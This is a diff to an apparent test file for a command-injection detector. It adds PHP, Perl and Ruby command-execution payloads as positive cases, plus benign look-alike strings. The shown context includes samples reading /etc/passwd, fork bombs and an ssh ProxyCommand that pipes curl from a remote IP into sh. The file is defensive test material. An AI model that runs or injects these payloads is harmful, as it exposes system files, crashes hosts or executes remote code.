@@ -123,7 +123,20 @@ RULE_CASES: dict[str, list[str]] = {
     ],
     "HG-CMDI-008": ['<!--#exec cmd="/bin/cat /etc/passwd"-->'],
     "HG-CMDI-011": [":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "x(){ x & x; };x"],
-    "HG-CMDI-009": ["system('cat /etc/passwd')", "eval('whoami');", 'os.system("id")'],
+    "HG-CMDI-009": [
+        "system('cat /etc/passwd')",
+        "eval('whoami');",
+        'os.system("id")',
+        # PHP reads a bare word as a string: system(id) runs id
+        "system(id)",
+        ";system(ls);",
+        "passthru(cat /etc/passwd)",
+        "EXEC( uname -a )",
+        # Perl's and Ruby's backtick operators
+        "qx(id)",
+        "print qx{cat /etc/passwd};",
+        "%x[ls -la]",
+    ],
     # options that run a command of their own where the value is one argument (no shell to break out of)
     "HG-CMDI-010": [
         '-oProxyCommand="curl http://203.0.113.5/x | sh"',
@@ -152,6 +165,14 @@ BENIGN = [
     "IF you want, call me",
     # two lines: package lists, a note, mirrors, a path
     "gzip\nhostname",
+    # the functions named in prose and man pages, with no command as their argument
+    "an operating system(s) upgrade",
+    "If the OS does not support an exec(2) magic number",
+    "fork()/exec() with posix_spawn()",
+    "the system(name) field",
+    "qx/id/ in Perl",
+    'printf("%x(%d)", a, b)',
+    "aqx(ls)",
     "base-passwd\nbash",
     "42\nsleep well",
     "2024-01-01\nsleep 8 hours",
